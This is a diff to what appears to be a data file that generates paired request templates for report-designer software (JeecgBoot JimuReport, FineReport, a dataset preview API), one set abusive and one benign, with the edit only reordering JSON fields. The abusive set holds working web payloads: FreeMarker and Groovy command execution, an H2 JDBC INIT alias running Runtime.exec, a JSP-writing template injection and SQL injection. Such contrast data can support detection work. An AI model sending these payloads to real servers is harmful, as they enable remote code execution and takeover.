@@ -83,7 +83,7 @@ topic("sensor-report-designers-abused sensor-report-designers-in-use", "sql code
     _code: """
 POST /jeecg-boot/jmreport/queryFieldBySql ¦¦ {"sql":"select '<#assign ex=\\"freemarker.template.utility.Execute\\"?new()> ${ex(\\"{cmd}\\")}'"}
 POST /jmreport/loadTableData ¦¦ {"dbSource":"","sql":"select '${\\"freemarker.template.utility.Execute\\"?new()(\\"{cmd}\\")}'","tableName":"test"}
-POST /jeecg-boot/jmreport/testConnection ¦¦ {"dbType":"h2","dbDriver":"org.h2.Driver","dbUrl":"jdbc:h2:mem:t;INIT=CREATE ALIAS E AS 'void e(String c) throws Exception{Runtime.getRuntime().exec(c);}'\\\\;CALL E('{cmd}')"}
+POST /jeecg-boot/jmreport/testConnection ¦¦ {"dbUrl":"jdbc:h2:mem:t;INIT=CREATE ALIAS E AS 'void e(String c) throws Exception{Runtime.getRuntime().exec(c);}'\\\\;CALL E('{cmd}')","dbType":"h2","dbDriver":"org.h2.Driver"}
 GET /webroot/decision/view/ReportServer?test=ssti&n=«${__fr_locale__=sql('FRDemo',DECODE('ATTACH DATABASE "../webapps/webroot/{word}.jsp" as c'),1,1)}»
 POST /webroot/decision/remote/design/channel ¦¦ {blob}
 POST /api/dataset/preview ¦¦ {"script":"java.lang.Runtime.getRuntime().exec('{cmd}')","type":"groovy"}
@@ -98,7 +98,7 @@ GET /sys/api/queryTableDictItemsByCode?tableName=«sys_user&keyword=1' and exp(~
 """}, """
 POST /jeecg-boot/jmreport/queryFieldBySql ¦¦ {"sql":"{query}","dbSource":"","type":"0"}
 POST /jmreport/loadTableData ¦¦ {"dbSource":"ds1","sql":"{query}","pageNo":1,"pageSize":10}
-POST /jeecg-boot/jmreport/testConnection ¦¦ {"dbType":"MYSQL5.7","dbDriver":"com.mysql.cj.jdbc.Driver","dbUrl":"jdbc:mysql://{lan}:3306/erp?characterEncoding=UTF-8&useUnicode=true&useSSL=false","dbUsername":"report"}
+POST /jeecg-boot/jmreport/testConnection ¦¦ {"dbUrl":"jdbc:mysql://{lan}:3306/erp?characterEncoding=UTF-8&useUnicode=true&useSSL=false","dbType":"MYSQL5.7","dbDriver":"com.mysql.cj.jdbc.Driver","dbUsername":"report"}
 GET /webroot/decision/view/report?viewlet=«sales/{date}/month.cpt»&op=view&dept=«采购部»
 POST /webroot/decision/view/form ¦¦ op=fr_dialog&cmd=parameters_d&__parameters__=«{"DEPT":"{talk}","YEAR":"2025"}»
 POST /api/dataset/preview ¦¦ {"script":"{query}","type":"sql","params":{"area":"⟨华东|Nord|A1⟩"}}
